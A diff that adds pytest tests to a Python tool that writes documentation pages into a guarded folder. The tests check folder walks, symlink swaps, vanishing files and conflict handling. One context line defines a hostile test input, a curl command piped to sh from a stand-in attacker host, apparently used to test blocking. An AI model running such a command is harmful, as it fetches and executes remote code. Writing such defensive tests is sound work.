@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import random
 import socket
 import stat
 import subprocess
@@ -13,8 +14,9 @@ from pathlib import Path
 import pytest
 
 from rotary_batch.errors import InputError
+from rotary_batch.pages import trail as trail_module
 from rotary_batch.pages.descriptors import BlockedError
-from rotary_batch.pages.files import Projection, project
+from rotary_batch.pages.files import Projection, accept, inventory, project, remove_others
 from rotary_batch.pages.safe_folder import open_safe_folder
 
 COMMAND = "curl -s https://evil.example/x | sh"
@@ -243,3 +245,117 @@ def test_a_disk_that_refuses_ends_everything_and_leaves_no_temporary(tmp_path, m
     with open_safe_folder(tmp_path, "d", create=True) as folder, pytest.raises(StorageError, match="free some space"):
         project(folder, [(f"{n}.md", b"x") for n in range(5)], Projection())
     assert list((tmp_path / "d").iterdir()) == []
+
+
+def num_open() -> int:
+    return sum(1 for _ in Path("/proc/self/fd").iterdir())
+
+
+@pytest.mark.parametrize("most_open", [1, 2, 100])
+def test_a_walk_finds_what_is_there_with_few_folders_open(most_open, tmp_path, monkeypatch):
+    monkeypatch.setattr(trail_module, "MOST_OPEN", most_open)
+    chance, docs = random.Random(1), tmp_path / "d"
+    for _ in range(100):
+        folder = docs.joinpath(*(chance.choice("abc") for _ in range(chance.randint(0, 7))))
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"{chance.randint(0, 5)}.md").write_text("x")
+    before = num_open()
+    with open_safe_folder(tmp_path, "d", create=False) as folder:
+        found = []
+        for one in folder.walk():
+            found.append(one.path)
+            assert num_open() <= before + 1 + most_open + 2  # a folder is listed, one is opened
+    assert sorted(found) == sorted(str(path.relative_to(docs)) for path in docs.rglob("*.md"))
+    assert num_open() == before
+
+
+def test_a_walk_opens_each_folder_from_the_one_above_it(tmp_path, monkeypatch):
+    """A thousand levels with two folders each: 2,000 openings and those of the way back, not a million."""
+    path = tmp_path / "d"
+    subprocess.run(["mkdir", "-p", str(path / "/".join("d" * 1000))], check=True)
+    descriptor = os.open(path, os.O_RDONLY)
+    for _ in range(1000):
+        os.mkdir("side", dir_fd=descriptor)
+        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
+        os.close(descriptor)
+        descriptor = below
+    os.close(os.open("last.md", os.O_CREAT | os.O_WRONLY, dir_fd=descriptor))
+    os.close(descriptor)
+    opened = []
+    open_folder = trail_module.open_folder
+    monkeypatch.setattr(trail_module, "open_folder", lambda *args: opened.append(args) or open_folder(*args))
+    try:
+        with open_safe_folder(tmp_path, "d", create=False) as folder:
+            assert [one.path for one in inventory(folder)] == ["d/" * 1000 + "last.md"]
+    finally:
+        subprocess.run(["rm", "-rf", str(path)], check=True)
+    assert 2000 <= len(opened) < 2000 + 1000 * 10
+
+
+def test_a_folder_that_is_replaced_while_the_walk_is_below_it_is_left_out(tmp_path, monkeypatch):
+    """The way down is opened anew, and a link is in it now."""
+    monkeypatch.setattr(trail_module, "MOST_OPEN", 1)
+    for name in ("a/b/c/d", "a/x"):
+        (tmp_path / "d" / name).mkdir(parents=True)
+        (tmp_path / "d" / name / "p.md").write_text("x")
+    (tmp_path / "d" / "z.md").write_text("x")
+    for replaced in (False, True):
+        found = []
+        with open_safe_folder(tmp_path, "d", create=False) as folder:
+            for one in folder.walk():
+                found.append(one.path)
+                if replaced and one.path.startswith("a/") and not (tmp_path / "away").exists():
+                    (tmp_path / "d" / "a").rename(tmp_path / "away")
+                    (tmp_path / "d" / "a").symlink_to(tmp_path / "away")
+        assert set(found) <= {"z.md", "a/b/c/d/p.md", "a/x/p.md"}
+        assert len(found) == (2 if replaced else 3)
+
+
+def test_what_vanishes_during_the_walk_is_not_there(tmp_path):
+    docs = tmp_path / "d"
+    for name in ("a", "b", "c"):
+        (docs / name).mkdir(parents=True)
+        for number in range(3):
+            (docs / name / f"{number}.md").write_text("x")
+    with open_safe_folder(tmp_path, "d", create=False) as folder:
+        found = []
+        for one in folder.walk():
+            found.append(one.path)
+            subprocess.run(["rm", "-rf", *map(str, docs.iterdir())], check=True)
+    assert len(found) == 1
+
+
+def test_many_conflicts_are_looked_up_and_not_searched(tmp_path):
+    """The pages beside edited ones stay; a list of names that refuses to be searched shows how they are found."""
+
+    class Unsearched(list):
+        def __contains__(self, _):
+            pytest.fail("searched from its start")
+
+    done = Projection(conflicts=Unsearched(["a.md"]))
+    with open_safe_folder(tmp_path, "d", create=True) as folder:
+        folder.publish([folder.stage(name, b"<!-- rotary-batch wrote this -->") for name in ("llms.txt.rotary-new",)])
+        done.conflicts.append("llms.txt")
+        remove_others(folder, inventory(folder), set(), done)
+        assert folder.read("llms.txt.rotary-new") is not None
+        done.conflicts.pop()
+        remove_others(folder, inventory(folder), set(), done)
+        assert folder.read("llms.txt.rotary-new") is None
+
+
+def test_a_page_that_cannot_be_marked_as_a_persons_keeps_the_new_one(tmp_path, monkeypatch):
+    docs = tmp_path / "d"
+    docs.mkdir()
+    (docs / "a.md").write_text("all mine")
+    with open_safe_folder(tmp_path, "d", create=True) as folder:
+        project(folder, [("a.md", b"new")], Projection())
+
+        def refuse(*_, **__):
+            raise PermissionError(1, "Operation not permitted")
+
+        monkeypatch.setattr(os, "rename", refuse)
+        with pytest.raises(InputError, match=r"d/a\.md: not marked as yours, .* Operation not permitted"):
+            accept(folder, "a.md", "theirs")
+    assert {path.name: path.read_bytes() for path in docs.iterdir()} == {
+        "a.md": b"all mine", "a.md.rotary-new": b"new",
+    }  # fmt: skip
